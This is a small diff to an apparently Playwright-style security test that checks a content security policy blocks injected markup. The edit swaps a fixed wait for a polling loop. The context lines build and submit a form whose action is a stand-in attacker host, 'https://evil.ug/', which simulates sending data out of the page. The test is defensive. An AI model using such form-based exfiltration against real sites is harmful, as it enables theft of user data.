@@ -171,7 +171,8 @@ test('HTTP-007 the content security policy stops inserted markup from running, i
     form.action = 'https://evil.ug/'
     document.body.append(form)
     form.submit()
-    await new Promise((resolve) => setTimeout(resolve, 600))
+    for (let round = 0; round < 80 && new Set(found).size < 4; round += 1)
+      await new Promise((resolve) => setTimeout(resolve, 100))
     return { found: [...new Set(found)].toSorted(), popup: popup !== null }
   }, IMAGE)
   expect(blocked.found).toEqual(
